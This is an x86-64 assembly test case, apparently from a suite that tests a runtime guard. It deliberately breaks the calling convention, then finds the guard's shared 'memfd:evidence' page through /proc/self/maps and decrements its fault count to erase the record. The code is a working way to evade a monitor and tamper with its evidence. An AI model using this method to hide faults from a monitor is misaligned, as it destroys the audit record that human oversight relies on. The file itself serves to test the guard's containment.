; attack: breaks the ABI, and erases the guard's note of it
; works: the checker passes it
; contained: not passed
;
; The guard notes what it sees in a page that it shares with the host. This one
; makes a call with a misaligned stack, finds the page by its name in
; /proc/self/maps, and takes the newest note away. A guest cannot open its own
; map, so it has to search for the page.

%include "attack.inc"

    extern  PyErr_Occurred

    section .rodata
maps:
    db      "/proc/self/maps", 0
mark:
    db      "memfd:evidence"
MARK_SIZE   equ $ - mark

FAULTS      equ 16                      ; the third word of the page

    section .bss
MAP_SIZE    equ 0x40000
map:
    resb    MAP_SIZE

    section .text
attack:
    call    PyErr_Occurred wrt ..plt    ; rsp is off by 8

    lea     rsi, [rel maps]
    mov     edi, AT_FDCWD
    xor     edx, edx
    mov     eax, SYS_openat
    syscall
    test    rax, rax
    js      outcome
    mov     r12d, eax
    lea     rbx, [rel map]
    lea     r13, [rel map + MAP_SIZE - 4096]
.more:
    mov     edi, r12d
    mov     rsi, rbx
    mov     edx, 4096
    xor     eax, eax                    ; SYS_read
    syscall
    add     rbx, rax
    cmp     rbx, r13
    jae     .read
    test    rax, rax
    jg      .more
.read:
    lea     rbp, [rel map]              ; the beginning of a line
    mov     rax, rbp
.look:
    cmp     rax, rbx
    jae     .not_found
    cmp     byte [rax], 10
    jne     .same_line
    lea     rbp, [rax + 1]
.same_line:
    lea     rdi, [rel mark]
    mov     rsi, rax
    mov     ecx, MARK_SIZE
    repe cmpsb
    je      .found
    inc     rax
    jmp     .look

.found:
    xor     edx, edx                    ; the line begins with the address
.digit:
    movzx   eax, byte [rbp]
    inc     rbp
    cmp     al, "-"
    je      .erase
    sub     al, "0"
    cmp     al, 9
    jbe     .decimal
    sub     al, "a" - "0" - 10
.decimal:
    shl     rdx, 4
    or      rdx, rax
    jmp     .digit
.erase:
    dec     qword [rdx + FAULTS]        ; the newest, as if it never was
    mov     eax, 42
    ret

.not_found:
    xor     eax, eax
    ret

    section .note.GNU-stack noalloc noexec nowrite progbits
